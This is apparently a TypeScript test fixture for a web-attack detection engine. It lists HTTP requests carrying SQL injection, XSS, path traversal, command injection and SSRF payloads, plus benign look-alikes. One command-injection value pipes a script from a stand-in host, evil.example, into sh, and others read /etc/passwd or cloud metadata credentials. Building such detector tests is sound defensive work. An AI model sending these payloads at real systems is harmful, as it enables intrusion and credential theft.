// The request corpus of test/vectors/requests.json, WITHOUT the verdicts: generate.ts runs each request
// through the Node agent (node-verdicts.ts) and writes the attack types it found as `expect`.
// Kinds: SQL injection, XSS, path traversal, command injection, SSRF, benign look-alikes; placed in the
// query, a JSON body, a form body, a header, a cookie, the path and a route parameter.

export interface CorpusRequest {
  name: string;
  method: string;
  /** The request target, URL-encoded as sent on the wire. */
  uri: string;
  /** Header names lower-case; `cookie` is a header here (the agents send it parsed as `cookies`). */
  headers: Record<string, string>;
  content_type: string | null;
  /** The raw body ("" for none). */
  body: string;
  /** The route of the reference app when the path holds a parameter (`/files/{name}`), else null. */
  route: string | null;
}

const UA = 'risk-hub-vectors/1.0';
const JSON_CT = 'application/json';
const FORM_CT = 'application/x-www-form-urlencoded';

function get(name: string, uri: string, headers: Record<string, string> = {}, route: string | null = null): CorpusRequest {
  return { name, method: 'GET', uri, headers: { 'user-agent': UA, ...headers }, content_type: null, body: '', route };
}
function json(name: string, uri: string, body: unknown): CorpusRequest {
  return { name, method: 'POST', uri, headers: { 'user-agent': UA, 'content-type': JSON_CT }, content_type: JSON_CT, body: JSON.stringify(body), route: null };
}
function form(name: string, uri: string, fields: Record<string, string>): CorpusRequest {
  return { name, method: 'POST', uri, headers: { 'user-agent': UA, 'content-type': FORM_CT }, content_type: FORM_CT, body: new URLSearchParams(fields).toString(), route: null };
}
const q = (s: string): string => encodeURIComponent(s);

export const CORPUS: CorpusRequest[] = [
  // SQL injection
  get('sqli-query-tautology', `/search?q=${q("' OR 1=1--")}`),
  get('sqli-query-union', `/search?q=${q('1 UNION SELECT username, password FROM users--')}`),
  get('sqli-query-time-based', `/items?id=${q("1; SELECT pg_sleep(10)--")}`),
  json('sqli-json-login', '/api/login', { username: "admin' --", password: 'x' }),
  json('sqli-json-nested', '/api/orders', { filter: { where: { id: "1' OR '1'='1" } }, page: 1 }),
  form('sqli-form-login', '/login', { username: "admin' OR '1'='1", password: 'x' }),
  get('sqli-route-param', `/users/${q('1 OR 1=1')}`, {}, '/users/{id}'),
  get('sqli-repeated-param', `/search?tag=shoes&tag=${q("x' UNION SELECT NULL,NULL--")}`),
  // XSS
  get('xss-query-script', `/search?q=${q('<script>alert(1)</script>')}`),
  get('xss-query-javascript-uri', `/redirect?next=${q('javascript:alert(document.cookie)')}`),
  json('xss-json-img-onerror', '/api/comments', { comment: '<img src=x onerror=alert(1)>' }),
  form('xss-form-svg', '/profile', { bio: '<svg/onload=alert(1)>' }),
  get('xss-cookie', '/account', { cookie: `theme=${q('<script>alert(1)</script>')}; sid=abc123` }),
  get('xss-referer-header', '/', { referer: 'https://example.com/"><script>alert(1)</script>' }),
  get('xss-proto-key', `/search?__proto__=${q('<script>alert(1)</script>')}`),
  // path traversal
  get('lfi-query-etc-passwd', `/download?file=${q('../../../../etc/passwd')}`),
  get('lfi-query-windows', `/download?file=${q('..\\..\\..\\windows\\win.ini')}`),
  get('lfi-route-param-encoded', `/files/${q('../../etc/passwd')}`, {}, '/files/{name}'),
  get('lfi-raw-path', '/static/..%2f..%2f..%2fetc%2fpasswd'),
  json('lfi-json-body', '/api/export', { template: '../../../etc/shadow' }),
  // command injection
  get('cmdi-query-semicolon', `/ping?host=${q('8.8.8.8; cat /etc/passwd')}`),
  get('cmdi-query-subshell', `/ping?host=${q('$(curl http://evil.example/x.sh | sh)')}`),
  json('cmdi-json-and', '/api/tools/dns', { host: 'example.com && whoami' }),
  form('cmdi-form-backticks', '/tools/ping', { host: '`id`' }),
  get('cmdi-user-agent-shellshock', '/', { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' }),
  // SSRF
  get('ssrf-query-metadata', `/fetch?url=${q('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}`),
  get('ssrf-query-file-scheme', `/fetch?url=${q('file:///etc/passwd')}`),
  json('ssrf-json-localhost', '/api/webhooks', { url: 'http://127.0.0.1:6379/' }),
  get('ssrf-query-gopher', `/fetch?url=${q('gopher://127.0.0.1:25/_HELO')}`),
  // scanners and mixed
  get('scanner-sqlmap-user-agent', '/', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
  json('mixed-sqli-and-xss', '/api/reviews', { title: "' UNION SELECT password FROM users--", text: '<script>alert(1)</script>' }),
  json('deep-json-attack', '/api/deep', { a: { b: { c: { d: { e: { f: { g: { h: '<script>alert(1)</script>' } } } } } } } }),
  // benign look-alikes (each should be clean; whatever the engine says is what `expect` records)
  get('benign-apostrophe-name', `/search?q=${q("O'Brien")}`),
  get('benign-select-words', `/search?q=${q('select a plan from the menu')}`),
  get('benign-math', `/calc?expr=${q('1+1=2')}`),
  json('benign-heart-text', '/api/comments', { comment: 'I <3 cats & dogs' }),
  get('benign-https-url', `/fetch?url=${q('https://example.com/page?id=1')}`),
  form('benign-email-form', '/signup', { email: 'alice@example.com', name: 'Alice Example' }),
  json('benign-unicode', '/api/profile', { name: 'Zoë Ünïcode 日本語', city: 'Zürich' }),
  get('benign-route-param', '/users/u-1001', {}, '/users/{id}'),
  json('benign-numbers', '/api/cart', { items: [1, 2, 3], total: 19.9, gift: false }),
  get('benign-static-file', '/static/css/site.css'),
];
